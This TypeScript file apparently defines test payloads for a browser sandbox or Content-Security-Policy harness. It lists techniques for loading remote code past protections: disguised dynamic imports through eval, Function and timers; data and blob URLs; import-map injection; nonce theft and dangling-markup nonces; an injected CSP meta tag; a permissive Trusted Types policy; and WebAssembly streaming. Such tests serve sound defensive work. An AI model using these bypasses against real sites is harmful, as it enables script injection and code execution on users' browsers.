// Remote imports, and abuses of a nonce or a policy of the document.
import { component, family, html, markup, script } from "./payload.ts";

const refused = { allows: ["refusal"] } as const;

export const modules = family("modules", {
  "import-call": script(({ hit }) => `await import("${hit()}");`, refused),
  "import-call-hidden": script(({ hit }) => `await new Function("a", "return import(a)")("${hit()}");`),
  "import-in-timer": script(({ hit }) => `setTimeout("import('${hit()}')", 10);`),
  "import-in-eval": script(({ hit }) => `(0, eval)("import('${hit()}')");`),
  "import-data": script(
    ({ strike }) => `await import("data:text/javascript," + encodeURIComponent(${JSON.stringify(strike)}));`,
    refused,
  ),
  "import-blob": script(
    ({ strike }) =>
      `await new Function("a", "return import(a)")(URL.createObjectURL(new Blob([${JSON.stringify(strike)}], { type: "text/javascript" })));`,
  ),
  "import-statement": component(({ hit }) => `import "${hit()}";\nexport default () => <p>x</p>;\n`, refused),
  "import-attributes": component(
    ({ hit }) => `import data from "${hit()}" with { type: "json" };\nexport default () => <p>{String(data)}</p>;\n`,
    refused,
  ),
  "export-from": component(({ hit }) => `export * from "${hit()}";\nexport default () => <p>x</p>;\n`, refused),
  "import-map": markup(
    ({ hit }) =>
      `<script type="importmap">{"imports":{"taken":"${hit()}"}}</script><script type="module">import "taken";</script>`,
  ),
  "import-map-over-react": script(
    ({ hit }) =>
      `const m = document.createElement("script"); m.type = "importmap"; m.textContent = '{"imports":{"late":"${hit()}"}}'; document.head.append(m); const s = document.createElement("script"); s.type = "module"; s.textContent = 'import "late"'; document.body.append(s);`,
  ),
  "nonce-read": script(
    ({ hit }) =>
      `const holder = document.querySelector("script[nonce]"); const s = document.createElement("script"); s.nonce = holder ? holder.nonce : ""; s.src = "${hit()}"; document.body.append(s);`,
  ),
  "nonce-by-style": markup(
    ({ hit }) =>
      `<script nonce="abc" type="text/plain">x</script><style>script[nonce^="a"]{display:block;background:url(${hit()})}</style>`,
  ),
  "nonce-dangling": html(({ hit }) => `<script src="${hit()}" x='<script nonce="'></script>`),
  "policy-injected": html(
    ({ hit }) =>
      `<!doctype html><head><meta http-equiv="Content-Security-Policy" content="script-src ${new URL(hit()).origin}"><script src="${hit()}"></script>`,
  ),
  "sri-and-crossorigin": markup(({ hit }) => `<script crossorigin="anonymous" src="${hit()}"></script>`),
  "trusted-types": script(
    ({ hit }) =>
      `trustedTypes.createPolicy("default", { createHTML: (s) => s, createScriptURL: (s) => s, createScript: (s) => s }); const s = document.createElement("script"); s.src = trustedTypes.defaultPolicy.createScriptURL("${hit()}"); document.body.append(s);`,
  ),
  "webassembly-streaming": script(
    ({ hit }) => `await WebAssembly.instantiateStreaming(fetch("${hit()}", { mode: "no-cors" }));`,
  ),
});
